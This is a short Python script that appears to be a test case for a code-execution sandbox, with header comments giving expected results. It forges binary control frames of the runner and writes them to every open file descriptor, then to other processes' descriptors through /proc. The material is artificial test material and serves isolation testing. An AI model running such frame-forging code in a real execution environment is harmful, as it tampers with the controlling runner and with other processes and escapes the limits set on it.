# tries: to forge frames of the runner on every descriptor, its own and those of other processes
# threats: 6
# ends: exited 0
# repeats: "\u0000\u0000\u0000\u0007\u0086\u0000\u0000\u0000\u0001{}" up to 11 bytes
# repeats gvisor: anything
import os
import struct

frame = struct.pack('>IBI', 5 + 2, 0x86, 1) + b'{}'
for fd in range(3, 1024):
    try:
        os.write(fd, frame)
        os.write(1, b'wrote to %d ' % fd)
    except OSError:
        pass
for pid in filter(str.isdigit, os.listdir('/proc')):
    if int(pid) == os.getpid():
        continue
    for fd in range(64):
        try:
            os.write(os.open(f'/proc/{pid}/fd/{fd}', os.O_WRONLY | os.O_NONBLOCK), frame)
            os.write(1, f'wrote to {pid}/{fd} '.encode())
        except OSError:
            pass
os.write(1, frame)
